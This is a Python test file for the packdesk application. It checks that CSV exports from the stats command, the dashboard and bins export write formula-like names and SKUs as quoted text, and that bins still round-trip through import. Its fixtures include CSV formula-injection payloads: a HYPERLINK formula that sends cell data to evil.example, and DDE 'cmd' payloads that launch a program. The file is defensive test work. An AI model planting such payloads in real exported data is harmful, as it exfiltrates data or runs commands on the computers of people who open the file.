"""CSV formula injection (issue 18, point 17): a name or SKU that a spreadsheet would run as a
formula is written so that it shows as text, in ``stats --format csv``, the dashboard's
export and ``bins export``; a bins CSV still round-trips through ``bins import``."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

from pytestqt.qtbot import QtBot
from sqlalchemy import Engine, delete

from packdesk.app import screen_services
from packdesk.domain.model import Role
from packdesk.persistence.db import make_engine
from packdesk.persistence.tables import BinRow, BinStockRow, ProductRow
from packdesk.services.auth import Actor
from packdesk.services.bins import export_bins_csv, import_bins_csv, list_bins, set_bin_stock
from packdesk.services.history import PackedOrder, write_history
from packdesk.services.stats import Grouping
from packdesk.services.uow import UnitOfWork
from packdesk.ui.dashboard import DashboardWidget
from tests.helpers.shop import seed_small_shop

ADMIN = Actor(1, "Ada Admin", Role.ADMIN)
LEAD = Actor(2, "Lena Lead", Role.LEAD)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DAY = datetime(2026, 11, 26)


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet would read as a formula (OWASP's list of first characters)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def hostile_history(engine: Engine) -> None:
    write_history(engine, [
        PackedOrder(f"#30{i:02d}", name, f"Bench {i}", datetime(2026, 11, 26, 9, i), 60, 60)
        for i, name in enumerate(HOSTILE)
    ] + [PackedOrder("#3099", "Pat Packer", HOSTILE[1], datetime(2026, 11, 26, 10, 0), 60, 60)])


def test_stats_csv_writes_formula_like_names_as_text(db_url: str) -> None:
    engine = make_engine(db_url)
    hostile_history(engine)
    engine.dispose()
    for grouping in ("packer", "station"):
        result = subprocess.run(
            [sys.executable, "-m", "packdesk", "stats", "--db", db_url, "--from", "2026-11-26",
             "--to", "2026-11-26", "--by", grouping, "--format", "csv"],
            capture_output=True, text=True, timeout=120, env={**os.environ, "TZ": "UTC"},
        )
        assert result.returncode == 0, result.stderr
        assert formula_cells(result.stdout) == [], result.stdout
        groups = [row["group"] for row in csv.DictReader(io.StringIO(result.stdout))]
        # the name is all there, behind one quote mark, for a person to read
        for name in HOSTILE[:4] if grouping == "packer" else HOSTILE[1:2]:
            assert "'" + name in groups, groups


def test_the_dashboard_export_writes_formula_like_names_as_text(
    qtbot: QtBot, sqlite_url: str, tmp_path: Path
) -> None:
    engine = make_engine(sqlite_url)
    hostile_history(engine)
    widget = DashboardWidget(screen_services(engine).dashboard, LEAD, zone=UTC, refresh_ms=60_000)
    qtbot.addWidget(widget)
    widget.set_grouping(Grouping.PACKER)
    widget.set_date_range(DAY.date(), DAY.date())
    qtbot.waitUntil(lambda: not widget.loading, timeout=10_000)
    target = tmp_path / "figures.csv"
    with qtbot.waitSignal(widget.exported, timeout=10_000):
        widget.export_csv(target)
    text = target.read_text(encoding="utf-8")
    assert formula_cells(text) == [], text
    assert "'" + HOSTILE[0] in [row["group"] for row in csv.DictReader(io.StringIO(text))]
    engine.dispose()


def bins(engine: Engine) -> list[tuple[str, bool, tuple[tuple[str, int], ...]]]:
    return [(b.code, b.active, tuple(b.stock)) for b in list_bins(UnitOfWork(engine))]


def test_bins_export_writes_formula_like_skus_as_text_and_import_gives_the_same_bins(
    engine: Engine,
) -> None:
    seed_small_shop(engine, orders=1)
    skus = ["=1+1", "-5", "@A1", "+SKU", "'=already quoted", "'plain quote"]
    with UnitOfWork(engine) as uow:
        uow.session.add_all(ProductRow(sku=sku, name=f"hostile {sku}") for sku in skus)
        uow.commit()
    codes = [b.code for b in list_bins(UnitOfWork(engine))]
    for index, sku in enumerate(skus):
        set_bin_stock(UnitOfWork(engine), ADMIN, codes[index], sku, index + 2)
    exported = export_bins_csv(UnitOfWork(engine))
    assert formula_cells(exported) == [], exported
    # quantities stay plain numbers
    assert all(row["quantity"] == "" or row["quantity"].isdigit()
               for row in csv.DictReader(io.StringIO(exported)))
    before = bins(engine)
    assert {sku for _, _, stock in before for sku, _ in stock} >= set(skus)
    with engine.begin() as conn:
        conn.execute(delete(BinStockRow))
        conn.execute(delete(BinRow))
    result = import_bins_csv(UnitOfWork(engine), ADMIN, exported)
    assert result.errors == [], result.errors
    assert bins(engine) == before
    assert export_bins_csv(UnitOfWork(engine)) == exported
